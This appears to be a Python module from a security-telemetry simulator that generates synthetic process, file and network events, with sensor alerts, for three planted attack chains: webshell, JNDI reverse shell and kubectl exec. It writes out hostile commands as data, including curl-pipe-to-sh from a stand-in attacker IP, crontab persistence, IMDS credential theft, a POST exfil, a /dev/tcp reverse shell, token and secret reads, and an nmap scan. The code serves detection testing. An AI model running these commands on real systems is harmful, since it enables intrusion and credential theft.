"""The planted attack chains, and when a host is ready for each kind."""

from __future__ import annotations

from collections.abc import Callable
from typing import TYPE_CHECKING

from app.generate.acts import _apt_fetch, _runc_exec, _simple
from app.generate.alerts import _alert
from app.generate.kubectl import _k8s_session
from app.generate.pieces import IMDS_IP, Step, _Chain, _Clock, _Host, _suffix

if TYPE_CHECKING:
    from app.generate.simulation import _Sim

CHAIN_KINDS: tuple[str, ...] = ("webshell", "jvm_revshell", "kubectl_exec")
ATTACKER_IP = "203.0.113.7"
REVSHELL_IP = "198.51.100.9"
_BOUND = {"webshell": 64, "jvm_revshell": 56, "kubectl_exec": 84}
"""Upper bounds of each chain's length, to plan starts that leave room for them."""


def _chain_webshell(sim: _Sim, h: _Host, chain: _Chain, c: _Clock) -> Step:
    """A web server worker -> sh -c "curl | sh" -> download, crontab, IMDS credentials."""
    rng = sim.rng
    nginx = rng.choice(h.nginx_workers)
    yield sim.accept(c.ms(1, 500), nginx, ATTACKER_IP, 443)
    parent = nginx
    via_php = int(chain.id.rsplit("-", 1)[1]) % 2 == 0  # every other one goes through PHP
    if via_php:
        yield sim.unix(c.ms(0.2, 1), nginx, "network_connect")
        parent = rng.choice(h.php_workers)
        yield sim.unix(c.ms(0.1, 0.5), parent, "network_accept")
        yield sim.read(c.ms(0.1, 0.5), parent, "/var/www/html/uploads/avatar.php")
    command = f"curl -s http://{ATTACKER_IP}/x.sh | sh"
    root = sim.proc(
        parent,
        c.ms(1, 5),
        ["sh", "-c", command],
        chain=chain,
        cwd="/var/www/html/uploads" if via_php else "/",
    )
    chain.root = root.identity
    flagged = sim.exec(c.t, root)
    yield flagged
    yield from _alert(sim, c, flagged, "sensor.shell_from_webserver", compromises=True)
    curl = sim.proc(root, c.t, f"curl -s http://{ATTACKER_IP}/x.sh")
    flagged = sim.exec(c.t, curl)
    yield flagged
    sh = sim.proc(root, c.ms(0.1, 1), "sh")
    yield sim.exec(c.t, sh)
    yield from _alert(sim, c, flagged, "sensor.ingress_tool_transfer")
    yield sim.connect(c.t, curl, ATTACKER_IP, 80)
    yield sim.exit(c.ms(50, 300), curl)
    # What x.sh does, command by command.
    c.ms(1, 5)
    yield from _simple(sim, c, sh, "id")
    stage2 = sim.proc(sh, c.ms(1, 5), "curl -s -o /tmp/.k http://dl.example.net/k")
    yield sim.exec(c.t, stage2)
    yield sim.dns(c.ms(0.5, 2), stage2, "dl.example.net", "203.0.113.8")
    yield sim.connect(c.ms(0.5, 2), stage2, "203.0.113.8", 80)
    yield sim.file(c.ms(0.5, 2), stage2, "file_create", "/tmp/.k", mode=0o644)
    yield sim.exit(c.ms(100, 800), stage2)
    chmod = sim.proc(sh, c.ms(1, 5), "chmod +x /tmp/.k")
    yield sim.exec(c.t, chmod)
    yield sim.file(c.ms(0.1, 1), chmod, "file_chmod", "/tmp/.k", mode=0o755)
    yield sim.exit(c.ms(0.1, 1), chmod)
    # (crontab -l; echo "*/5 * * * * curl ... | sh") | crontab -
    c.ms(1, 5)
    spool = "/var/spool/cron/crontabs/www-data"
    yield from _simple(sim, c, sh, "crontab -l", reads=(spool,), code=1)
    crontab = sim.proc(sh, c.ms(1, 5), "crontab -")
    yield sim.exec(c.t, crontab)
    tmp = f"/var/spool/cron/crontabs/tmp.{_suffix(rng, 6)}"
    yield sim.file(c.ms(0.2, 1), crontab, "file_create", tmp, mode=0o600)
    yield sim.file(c.ms(0.1, 0.5), crontab, "file_write", tmp)
    flagged = sim.file(c.ms(0.1, 0.5), crontab, "file_rename", tmp, target_path=spool)
    yield flagged
    yield from _alert(sim, c, flagged, "sensor.crontab_modified")
    yield sim.exit(c.t, crontab)
    # IMDSv2: a token, the role's name, then its credentials.
    base = "/latest/meta-data/iam/security-credentials/"
    for path, method in (
        ("/latest/api/token", "PUT"),
        (base, "GET"),
        (base + "web-prod-role", "GET"),
    ):
        header = (
            "X-aws-ec2-metadata-token-ttl-seconds: 21600"
            if method == "PUT"
            else "X-aws-ec2-metadata-token: AQAEAFTzRx0Nyx3tP0fB2xq9LGdUgK7w=="
        )
        argv = ["curl", "-s", "-X", method, "-H", header, f"http://{IMDS_IP}{path}"]
        query = sim.proc(sh, c.ms(5, 40), argv)
        yield sim.exec(c.t, query)
        yield sim.connect(c.ms(0.3, 1), query, IMDS_IP, 80)
        role = "web-prod-role" if path.endswith("role") else None
        flagged = sim.imds(c.ms(0.3, 1), query, path, "curl/7.88.1", method=method, role=role)
        yield flagged
        if role:
            yield from _alert(sim, c, flagged, "sensor.imds_credentials")
        yield sim.exit(c.ms(1, 5), query)
    c.ms(5, 40)
    exfil = f"curl -s -X POST --data-binary @- http://{ATTACKER_IP}/c"
    yield from _simple(sim, c, sh, exfil, connect=(ATTACKER_IP, 80))
    yield sim.exit(c.ms(1, 5), sh)
    yield sim.exit(c.ms(0.2, 1), root)


def _chain_jvm_revshell(sim: _Sim, h: _Host, chain: _Chain, c: _Clock) -> Step:
    """A JNDI-exploited JVM -> sh -c -> bash -i to 198.51.100.9:4444 -> recon, a pty."""
    java = h.java
    assert java is not None
    # The exploit request and the JNDI lookups are the service's own events.
    yield sim.accept(c.ms(1, 500), java, REVSHELL_IP, 8080)
    yield sim.connect(c.ms(2, 10), java, REVSHELL_IP, 1389)
    yield sim.connect(c.ms(20, 80), java, REVSHELL_IP, 8000)
    command = f"bash -i >& /dev/tcp/{REVSHELL_IP}/4444 0>&1"
    root = sim.proc(java, c.ms(20, 80), ["/bin/sh", "-c", command], chain=chain)
    chain.root = root.identity
    flagged = sim.exec(c.t, root)
    yield flagged
    yield from _alert(sim, c, flagged, "sensor.shell_from_java", compromises=True)
    bash = sim.proc(root, c.t, "bash -i")
    yield sim.exec(c.t, bash)
    flagged = sim.connect(c.ms(0.2, 1), bash, REVSHELL_IP, 4444)
    yield flagged
    yield from _alert(sim, c, flagged, "sensor.reverse_shell")
    for argv in ("id", "uname -a"):
        c.gap(5)
        yield from _simple(sim, c, bash, argv)
    c.gap(5)
    yield from _simple(
        sim, c, bash, "cat /etc/passwd", reads=("/etc/passwd",), alert="sensor.account_discovery"
    )
    c.gap(5)
    yield from _simple(sim, c, bash, "ls -la /opt/app")
    # Upgrade to a pty: a bash with a tty, still inside the exploit.
    py = sim.proc(bash, c.gap(8), ["python3", "-c", 'import pty; pty.spawn("/bin/bash")'])
    yield sim.exec(c.t, py)
    tty = h.open_pts()  # never closed: the chain is planned ahead of the noise's sessions
    pty_bash = sim.proc(py, c.ms(2, 8), "/bin/bash", tty=tty)
    yield sim.exec(c.t, pty_bash)
    c.gap(4)
    yield from _simple(sim, c, pty_bash, "whoami")
    c.gap(6)
    config = "/opt/app/config/application.yml"
    yield from _simple(sim, c, pty_bash, f"cat {config}", reads=(config,))
    yield sim.exit(c.gap(5), pty_bash)
    yield sim.exit(c.ms(1, 5), py)
    yield sim.exit(c.gap(3), bash)
    yield sim.exit(c.ms(0.2, 1), root)


def _chain_kubectl_exec(sim: _Sim, h: _Host, chain: _Chain, c: _Clock) -> Step:
    """kubectl exec into the web pod -> bash -> apt-get install nmap, secrets, API calls."""
    groups = ["system:authenticated", "oidc:developers"]
    session = _k8s_session(sim, "alice@example.com", groups)
    c.ms(1, 500)
    first = yield from _runc_exec(
        sim, c, h.pods["web"], "bash", tty="pts/0", session=session, chain=chain
    )
    bash = first.proc
    chain.root = bash.identity
    yield from _alert(sim, c, first, "sensor.k8s_exec_shell")
    c.gap(4)
    yield from _simple(sim, c, bash, "id")
    c.gap(4)
    yield from _simple(sim, c, bash, "cat /etc/os-release", reads=("/etc/os-release",))
    update = sim.proc(bash, c.gap(5), "apt-get update")
    yield sim.exec(c.t, update)
    yield from _apt_fetch(sim, c, update, "deb.debian.org", "151.101.2.132")
    lists = "/var/lib/apt/lists/deb.debian.org_debian_dists_bookworm_InRelease"
    yield sim.file(c.ms(5, 30), update, "file_write", lists)
    yield sim.exit(c.ms(5, 30), update)
    install = sim.proc(bash, c.gap(4), "apt-get install -y nmap")
    flagged = sim.exec(c.t, install)
    yield flagged
    yield from _alert(sim, c, flagged, "sensor.package_install_in_container")
    yield from _apt_fetch(sim, c, install, "deb.debian.org", "151.101.2.132")
    deb = "/var/cache/apt/archives/nmap_7.93+dfsg1-1_amd64.deb"
    unpack = f"/usr/bin/dpkg --status-fd 23 --no-triggers --unpack --auto-deconfigure {deb}"
    dpkg = sim.proc(install, c.ms(5, 30), unpack)
    yield sim.exec(c.t, dpkg)
    yield sim.file(c.ms(5, 30), dpkg, "file_create", "/usr/bin/nmap.dpkg-new", mode=0o644)
    yield sim.file(c.ms(1, 5), dpkg, "file_chmod", "/usr/bin/nmap.dpkg-new", mode=0o755)
    new = "/usr/bin/nmap.dpkg-new"
    yield sim.file(c.ms(1, 5), dpkg, "file_rename", new, target_path="/usr/bin/nmap")
    yield sim.exit(c.ms(5, 30), dpkg)
    yield sim.exit(c.ms(5, 30), install)
    token = "/var/run/secrets/kubernetes.io/serviceaccount/token"
    c.gap(5)
    yield from _simple(
        sim, c, bash, f"cat {token}", reads=(token,), alert="sensor.k8s_sa_token_read"
    )
    c.gap(4)
    yield from _simple(sim, c, bash, "ls /etc/secrets")
    c.gap(5)
    secret = "/etc/secrets/db-password"
    yield from _simple(
        sim, c, bash, f"cat {secret}", reads=(secret,), alert="sensor.secret_file_read"
    )
    nmap = sim.proc(bash, c.gap(6), "nmap -sT -p 443,6443,10250 10.0.1.0/28")
    flagged = sim.exec(c.t, nmap)
    yield flagged
    yield from _alert(sim, c, flagged, "sensor.network_scan")
    for last in (1, 11, 12, 13):
        for port in (443, 6443, 10250):
            yield sim.connect(c.ms(0.1, 2), nmap, f"10.0.1.{last}", port)
    yield sim.exit(c.ms(100, 900), nmap)
    argv = [
        "curl",
        "-sk",
        "-H",
        "Authorization: Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6IjRmT2V",
        "https://kubernetes.default.svc/api/v1/namespaces/shop/secrets",
    ]
    curl = sim.proc(bash, c.gap(6), argv)
    yield sim.exec(c.t, curl)
    yield sim.dns(c.ms(0.5, 2), curl, "kubernetes.default.svc.cluster.local", "10.96.0.1")
    yield sim.connect(c.ms(0.5, 2), curl, "10.96.0.1", 443)
    yield sim.exit(c.ms(20, 200), curl)
    yield sim.exit(c.gap(5), bash)


_CHAINS: dict[str, Callable[[_Sim, _Host, _Chain, _Clock], Step]] = {
    "webshell": _chain_webshell,
    "jvm_revshell": _chain_jvm_revshell,
    "kubectl_exec": _chain_kubectl_exec,
}


def _ready_webshell(h: _Host) -> bool:
    return bool(h.php_workers) and all(w.seen for w in h.nginx_workers + h.php_workers)


def _ready_jvm(h: _Host) -> bool:
    return h.java is not None and h.java.seen


def _ready_kubectl(h: _Host) -> bool:
    return "web" in h.pods and h.pods["web"][0].seen


_READY: dict[str, Callable[[_Host], bool]] = {
    "webshell": _ready_webshell,
    "jvm_revshell": _ready_jvm,
    "kubectl_exec": _ready_kubectl,
}
